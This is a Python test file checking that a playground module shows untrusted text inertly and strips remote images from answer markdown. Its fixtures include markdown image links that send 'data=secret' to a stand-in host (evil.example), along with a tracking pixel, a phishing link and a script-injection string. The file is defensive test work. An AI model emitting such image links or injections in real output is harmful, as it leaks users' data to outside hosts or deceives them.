"""Untrusted text is shown inertly; answers keep markdown but never fetch a remote image."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from playground.untrusted import answer_markdown, inert

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
HOSTILE = [
    "![pixel](https://tracker.example/p.png?who=me)",
    "# Fake heading\n## admin notice",
    "[Reset your password](https://phish.example/login)",
    "<img src=https://x.example/a.png> <script>alert(1)</script>",
    "> quoted\n- item\n1. first\n    indented code",
    "*bold* _it_ ~~gone~~ `code` $x^2$ :red[red] :material/home: :smile:",
    "https://bare.example/path www.example.com mail@example.com",
    "[ref]: https://x.example/i.png\n![ref]",
    "| a | b |\n|---|---|\n| ![x](https://x.example/t.png) | c |",
    "back\\slash \\*not bold\\* &amp; &#33;",
    "  two leading spaces\n\tand a tab\r\nCRLF\rCR",
    "",
    "日本語のコメント 🎉 مرحبا \u200b zero-width",
]


def _tokens(markdown: str) -> list:
    flat = []
    for token in PARSER.parse(markdown):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def _plain(markdown: str) -> str:
    """What a reader sees: the text of a markdown rendering, hard breaks as newlines."""
    return "".join(
        "\n" if t.type == "hardbreak" else t.content for t in _tokens(markdown) if t.type in ("text", "hardbreak")
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_untrusted_text_renders_as_exactly_its_characters(text: str) -> None:
    shown = inert(text)
    kinds = {t.type for t in _tokens(shown)}
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "hardbreak"}, kinds
    expected = "\n".join(line.replace("\t", "    ") for line in text.replace("\r\n", "\n").split("\n"))
    expected = "\n".join(expected.split("\r"))
    assert _plain(shown).replace("\u00a0", " ") == expected
    # no punctuation left unescaped: nothing a GFM autolink, a Streamlit directive or maths could start from
    assert not re.search(r"[!-/:-@\[-`{-~]", re.sub(r"\\[!-/:-@\[-`{-~]|&nbsp;", "", shown))


@pytest.mark.parametrize(
    "answer",
    [
        "Here: ![chart](https://evil.example/leak?data=secret)",
        "[![badge](https://evil.example/b.svg)](https://example.org)",
        "See ![logo]\n\n[logo]: https://evil.example/l.png",
        "![a][r]\n\n[r]: <https://evil.example/x.png> 'title'",
        "| cell |\n|---|\n| ![x](https://evil.example/t.png) |",
    ],
)
def test_an_answer_never_fetches_a_remote_image(answer: str) -> None:
    assert any(t.type == "image" for t in _tokens(answer))  # the raw answer would
    assert not any(t.type == "image" for t in _tokens(answer_markdown(answer)))


def test_an_answer_keeps_its_markdown_when_it_has_no_image() -> None:
    linked = "## Steps\n1. Read [the docs](https://doc.rust-lang.org)\n2. **Run** `cargo test`\n\n> note"
    assert answer_markdown(linked) == linked
    assert {"heading_open", "link_open", "strong_open", "code_inline"} <= {t.type for t in _tokens(linked)}
    rust = "Use `vec![1, 2]`:\n\n```rust\nlet v = vec![3];\n```"
    assert answer_markdown(rust) == rust
